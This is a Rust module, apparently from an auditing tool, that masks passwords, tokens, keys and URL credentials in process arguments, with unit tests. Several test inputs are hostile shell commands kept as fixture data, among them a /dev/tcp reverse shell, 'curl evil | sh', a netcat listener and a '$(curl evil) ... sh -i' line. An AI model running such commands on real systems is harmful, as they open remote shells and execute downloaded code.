//! Masks secrets in arguments, and knows what a secret looks like. Pure.
//!
//! Arguments are evidence, so only what is very likely a secret is masked, and no more of a text than the secret itself: of
//! `sh -c 'DB_PASSWORD=x; curl evil'` all but `x` stays. These are masked: the value of an option or variable whose name ends in
//! a word for a secret (`--password x`, `PGPASSWORD=x`, `?token=x`, `Authorization: Bearer x`), passwords in URLs, the
//! password options of common clients (`mysql -px`), and keys that are known by their beginning. `cp -p`, `ssh -p 22` and
//! `--password-file x` stay. A value that the shell computes (`$X`, `$(cmd)`) is no secret and stays.
//!
//! Not owned here: the names of environment variables, of which more are masked (`enrich/environment.rs`).

use super::Text;

/// Stands for what is not shown.
pub const MASK: &str = "[masked]";

/// A name is a secret's if its last word ends in one of these.
const ENDINGS: &[&str] = &[
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "PWD",
    "SECRET",
    "TOKEN",
    "APIKEY",
    "ACCESSKEY",
    "CREDENTIAL",
    "CREDENTIALS",
    "AUTHORIZATION",
    "JWT",
];
/// A name is a secret's if its last word is one of these.
const WORDS: &[&str] = &["PASS", "PW", "COOKIE", "AUTH"];
/// Words before KEY that make it a secret's name.
const KEYS: &[&str] = &["API", "ACCESS", "SECRET", "AUTH", "ACCOUNT"];
/// Beginnings of keys and tokens of services.
const BEGINNINGS: &[&str] = &[
    "AKIA",
    "ASIA",
    "AIza",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xox",
    "sk-",
    "sk_",
    "rk_",
    "pk_",
    "hvs.",
    "eyJ",
    "ya29.",
    "SG.",
    "npm_",
    "pypi-",
    "dop_v1_",
    "shpat_",
    "AGE-SECRET-KEY-",
];
/// Fewer bytes than this are not a service's key, whatever they begin with.
const KEY_MIN: usize = 16;
/// A user name in a URL of so many bytes is a token.
const USER_MIN: usize = 24;

/// Schemes before the secret of an `Authorization:` header, in lower case.
const SCHEMES: &[&str] = &["bearer", "basic", "token", "digest", "negotiate"];
const QUOTES: [char; 2] = ['"', '\''];
/// What stands between assignments of one word.
const SEPARATORS: [char; 4] = ['&', '?', ';', '('];

/// Programs with a short option for a password: the beginning of the program's name, the option, and whether the password may
/// be the next argument.
const SHORT: &[(&str, &str, bool)] = &[
    ("mysql", "-p", false),
    ("mariadb", "-p", false),
    ("7z", "-p", false),
    ("sshpass", "-p", true),
    ("mongo", "-p", true),
    ("redis-cli", "-a", true),
    ("ldap", "-w", true),
    ("zip", "-P", true),
    ("unzip", "-P", true),
    // `USER:PASSWORD`.
    ("curl", "-u", true),
    ("curl", "--user", true),
    ("curl", "-U", true),
    ("curl", "--proxy-user", true),
];

/// Whether a word begins as the key or token of a known service.
#[must_use]
pub fn is_key(word: &str) -> bool {
    BEGINNINGS.iter().any(|beginning| word.starts_with(beginning))
}

/// Where the secret of a URL is, `scheme://user:password@host` or `scheme://token@host`.
#[must_use]
pub fn in_url(word: &str) -> Option<&str> {
    let (_, rest) = word.split_once("://")?;
    let authority = rest.split(['/', '?', '#', '"', '\'']).next()?;
    let (user, _) = authority.rsplit_once('@')?;
    match user.split_once(':') {
        Some((_, password)) => Some(password),
        None => (user.len() >= USER_MIN).then_some(user),
    }
}

/// Masks secrets in the arguments of one process.
pub fn mask_arguments(argv: &mut [Text]) {
    let mut masker = Masker::default();
    for argument in argv {
        let text = String::from_utf8_lossy(argument.as_bytes());
        let masked = masker.argument(&text);
        // What is not UTF-8 stays as it is where there is nothing to mask.
        if masked != text {
            *argument = masked.as_str().into();
        }
    }
}

/// What the words before say of the next one.
#[derive(Default)]
struct Masker {
    expected: Expected,
    /// A masked value goes on until this quote.
    quote: Option<char>,
    /// The program of [`SHORT`] that was named last.
    program: Option<&'static str>,
}

#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Expected {
    #[default]
    Nothing,
    /// The value of an option.
    Value,
    /// The value of an option that may be `USER:PASSWORD`.
    Login,
    /// The value of a header, which may begin with a scheme: `Bearer`.
    Header,
}

impl Masker {
    fn argument(&mut self, text: &str) -> String {
        // An argument of its own is no shell's text: the value may hold anything.
        if let Some((name, value)) = text.split_once('=').filter(|_| text.starts_with('-'))
            && is_secret(name)
        {
            return format!("{name}={}", masked(value));
        }
        let mut out = String::with_capacity(text.len());
        for piece in text.split_inclusive(char::is_whitespace) {
            let word = piece.trim_end();
            out.push_str(&self.word(word));
            if self.quote.is_none() {
                out.push_str(&piece[word.len()..]);
            }
        }
        self.quote = None;
        out
    }

    fn word(&mut self, word: &str) -> String {
        if let Some(quote) = self.quote {
            let Some(end) = word.find(quote) else {
                return String::new();
            };
            self.quote = None;
            return word[end..].to_owned();
        }
        let bare = word.trim_start_matches(QUOTES);
        if bare.is_empty() {
            return word.to_owned();
        }
        let start = &word[..word.len() - bare.len()];
        format!("{start}{}", self.bare_word(bare, start.chars().next()))
    }

    /// A word without the quote that it begins with.
    fn bare_word(&mut self, word: &str, quote: Option<char>) -> String {
        match std::mem::take(&mut self.expected) {
            Expected::Header if SCHEMES.contains(&word.to_ascii_lowercase().as_str()) => {
                self.expected = Expected::Value;
                return word.to_owned();
            }
            Expected::Login => return self.login(word, quote),
            Expected::Value | Expected::Header if !word.starts_with('-') => return self.value(word, quote),
            _ => {}
        }
        if word.strip_suffix(':').is_some_and(is_secret) {
            self.expected = Expected::Header;
            return word.to_owned();
        }
        if word.starts_with('-')
            && let Some(shown) = self.option(word, quote)
        {
            return shown;
        }
        let program = word.rsplit('/').next().unwrap_or_default();
        if let Some((name, ..)) = SHORT.iter().find(|(name, ..)| program.starts_with(name)) {
            self.program = Some(name);
        } else if word.contains([';', '|', '&']) {
            self.program = None;
        }
        self.within(word, quote)
    }

    /// An option whose value is a secret: by its name, or by the program's table.
    fn option(&mut self, word: &str, quote: Option<char>) -> Option<String> {
        let of_program = SHORT.iter().filter(|(program, ..)| Some(*program) == self.program);
        for (program, option, next) in of_program {
            let Some(value) = word.strip_prefix(option) else {
                continue;
            };
            // `--user-agent` is another option than `--user`.
            let joint = if option.starts_with("--") { "=" } else { "" };
            let login = *program == "curl";
            if value.is_empty() {
                self.expected = match (next, login) {
                    (true, true) => Expected::Login,
                    (true, false) => Expected::Value,
                    (false, _) => Expected::Nothing,
                };
            } else if let Some(value) = value.strip_prefix(joint) {
                let shown = if login {
                    self.login(value, quote)
                } else {
                    self.value(value, quote)
                };
                self.program = None;
                return Some(format!("{option}{joint}{shown}"));
            } else {
                continue;
            }
            self.program = None;
            return Some(word.to_owned());
        }
        if !is_secret(word) {
            return None;
        }
        self.expected = Expected::Value;
        Some(word.to_owned())
    }

    /// `USER:PASSWORD`.
    fn login(&mut self, word: &str, quote: Option<char>) -> String {
        match word.split_once(':') {
            Some((user, password)) => format!("{user}:{}", self.value(password, quote)),
            None => word.to_owned(),
        }
    }

    /// `NAME=VALUE`, also as a part of a URL or a list, URLs, and keys that are known by their beginning.
    fn within(&mut self, word: &str, quote: Option<char>) -> String {
        let mut shown = match in_url(word).filter(|secret| masked(secret) == MASK) {
            Some(secret) => {
                let at = secret.as_ptr() as usize - word.as_ptr() as usize;
                format!("{}{MASK}{}", &word[..at], &word[at + secret.len()..])
            }
            None => word.to_owned(),
        };
        if shown.contains('=') {
            shown = self.assignments(&shown, quote);
        }
        let is_part = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
        let parts = shown.split(|c: char| !is_part(c));
        let keys: Vec<&str> = parts.filter(|part| part.len() >= KEY_MIN && is_key(part)).collect();
        keys.iter().fold(shown.clone(), |text, key| text.replace(key, MASK))
    }

    fn assignments(&mut self, word: &str, quote: Option<char>) -> String {
        let mut out = String::with_capacity(word.len());
        for piece in word.split_inclusive(SEPARATORS) {
            let body = piece.trim_end_matches(SEPARATORS);
            match body.split_once('=') {
                Some((name, value)) if is_secret(name) => {
                    let bare = value.trim_start_matches(QUOTES);
                    let own = &value[..value.len() - bare.len()];
                    out.push_str(&format!(
                        "{name}={own}{}",
                        self.value(bare, own.chars().next().or(quote))
                    ));
                }
                _ => out.push_str(body),
            }
            out.push_str(&piece[body.len()..]);
        }
        out
    }

    /// Masks a value. Behind a quote it goes on until the next one; else a quote of the text around ends it.
    fn value(&mut self, value: &str, quote: Option<char>) -> String {
        let end = match quote {
            Some(quote) => value.find(quote),
            None => Some(value.find(['"', '\'', ';']).unwrap_or(value.len())),
        };
        match end {
            Some(end) => format!("{}{}", masked(&value[..end]), &value[end..]),
            None => {
                self.quote = quote.filter(|_| masked(value) == MASK);
                masked(value).to_owned()
            }
        }
    }
}

/// The mask, unless there is nothing to mask or the shell computes it.
fn masked(value: &str) -> &str {
    if value.is_empty() || value.starts_with('$') || value.contains("$(") || value.contains('`') {
        value
    } else {
        MASK
    }
}

/// Whether a name is a secret's: by its last word.
fn is_secret(name: &str) -> bool {
    if !name
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
    {
        return false;
    }
    let mut words: Vec<String> = Vec::new();
    let mut before = '-';
    for c in name.trim_end_matches(|c: char| c.is_ascii_digit()).chars() {
        let begins = c.is_ascii_uppercase() && before.is_ascii_lowercase();
        if c.is_ascii_alphanumeric() {
            if begins || !before.is_ascii_alphanumeric() {
                words.push(String::new());
            }
            if let Some(word) = words.last_mut() {
                word.push(c.to_ascii_uppercase());
            }
        }
        before = c;
    }
    let Some((last, words)) = words.split_last() else {
        return false;
    };
    // The working directory.
    if words.is_empty() && matches!(last.as_str(), "PWD" | "OLDPWD") {
        return false;
    }
    ENDINGS.iter().any(|ending| last.ends_with(ending))
        || WORDS.contains(&last.as_str())
        || last == "KEY" && words.last().is_some_and(|word| KEYS.contains(&word.as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The words are separated by `|`.
    fn shown(words: &str) -> String {
        let mut argv: Vec<Text> = words.split('|').map(Text::from).collect();
        mask_arguments(&mut argv);
        argv.iter()
            .map(|text| text.to_text().into_owned())
            .collect::<Vec<_>>()
            .join("|")
    }

    #[test]
    fn secrets_in_arguments_are_masked() {
        for (words, expected) in [
            ("mysql|-psecret|-h|db", "mysql|-p[masked]|-h|db"),
            (
                "sudo|/usr/bin/mysqldump|-uroot|-psecret",
                "sudo|/usr/bin/mysqldump|-uroot|-p[masked]",
            ),
            ("psql|--password=a b", "psql|--password=[masked]"),
            ("x|--db-password|secret|file", "x|--db-password|[masked]|file"),
            ("x|--accessToken|secret", "x|--accessToken|[masked]"),
            (
                "x|-Dspring.datasource.password=secret",
                "x|-Dspring.datasource.password=[masked]",
            ),
            ("env|PGPASSWORD=secret|psql", "env|PGPASSWORD=[masked]|psql"),
            ("sshpass|-p|secret|ssh|-p|22|h", "sshpass|-p|[masked]|ssh|-p|22|h"),
            ("redis-cli|-a|secret|PING", "redis-cli|-a|[masked]|PING"),
            ("curl|-u|ann:secret|http://h", "curl|-u|ann:[masked]|http://h"),
            ("curl|-uann:secret|http://h", "curl|-uann:[masked]|http://h"),
            ("curl|--user|ann:secret", "curl|--user|ann:[masked]"),
            ("curl|--user=ann:secret", "curl|--user=ann:[masked]"),
            (
                "git|clone|https://ann:secret@h/r?x=1",
                "git|clone|https://ann:[masked]@h/r?x=1",
            ),
            (
                "curl|https://h/p?a=1&access_token=secret&b=2",
                "curl|https://h/p?a=1&access_token=[masked]&b=2",
            ),
            (
                "curl|-H|Authorization: Bearer secret|h",
                "curl|-H|Authorization: Bearer [masked]|h",
            ),
            ("curl|-H|X-Api-Key: secret", "curl|-H|X-Api-Key: [masked]"),
            (
                "sh|-c|DB_PASSWORD='a b' mysql -psecret; curl evil | sh",
                "sh|-c|DB_PASSWORD='[masked]' mysql -p[masked]; curl evil | sh",
            ),
            (
                "sh|-c|curl -H 'Authorization: Basic secret' http://h|x",
                "sh|-c|curl -H 'Authorization: Basic [masked]' http://h|x",
            ),
            ("sh|-c|TOKEN=x;evil", "sh|-c|TOKEN=[masked];evil"),
            ("psql|host=db password=secret", "psql|host=db password=[masked]"),
            ("x|ghp_16C7e42F292c6912E7710c83", "x|[masked]"),
        ] {
            let words = words.replace(" | ", " \u{1} ");
            let found = shown(&words).replace('\u{1}', "|");
            assert_eq!(found, expected, "{words}");
        }
    }

    #[test]
    fn what_is_no_secret_stays() {
        for words in [
            "ssh|-p|22|host",
            "mkdir|-p|/a/b",
            "nc|-lp|4444",
            "ps|-p1",
            "cp|-p|a|b",
            "mysql|-p|db",
            "x|--password-file|/run/secret",
            "x|--password-file=/run/secret",
            "x|--max-tokens=5",
            "x|--token|--verbose",
            "env|PWD=/srv|OLDPWD=/",
            "curl|-u|ann|--user-agent|a:b|http://h:80/p?q=1",
            "docker|run|-p|80:80|registry/token:latest",
            "bash|-c|exec 5<>/dev/tcp/192.0.2.1/443; sh <&5 >&5",
            "sh|-c|PASSWORD=$(curl evil) TOKEN=$X sh -i",
            "sh|-c|echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgMTIzNA== | base64 -d",
            "git|clone|ssh://git@h/r",
            "author|--author=x|--keyboard=y",
            "",
        ] {
            assert_eq!(shown(words), words);
        }
        let mut argv = [Text::from(&b"caf\xe9"[..])];
        mask_arguments(&mut argv);
        assert_eq!(argv[0].as_bytes(), b"caf\xe9");
    }

    #[test]
    fn any_bytes_are_taken() {
        let text = "mysql -p'\"=;&?:$(é -u --password= Authorization: https://a:@b ghp_";
        for (start, _) in text.char_indices() {
            for (end, _) in text.char_indices().filter(|(end, _)| *end >= start) {
                shown(&text[start..end]);
            }
        }
    }
}
